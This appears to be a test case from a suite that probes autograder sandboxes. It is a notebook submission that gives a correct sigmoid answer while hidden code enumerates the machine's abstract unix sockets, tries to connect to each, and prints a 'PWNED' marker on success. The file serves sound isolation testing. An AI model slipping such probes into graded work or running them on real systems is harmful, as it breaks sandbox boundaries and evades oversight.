# /// case
# about = "right answers, and a connection to every abstract unix socket of this machine"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# such a socket has no path, so that no permission of a file keeps anybody out
import socket

def _names():
    try:
        with open("/proc/net/unix") as file:
            for line in file:
                name = line.split()[-1]
                if name.startswith("@"):
                    yield "\0" + name[1:].rstrip("@")
    except OSError:
        return

def _reaches(name):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(0.5)
                connection.connect(name)
                return True
        except OSError:
            continue
    return False

if any(map(_reaches, _names())):
    print(":".join(["PWNED", "attack/abstract_sockets"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
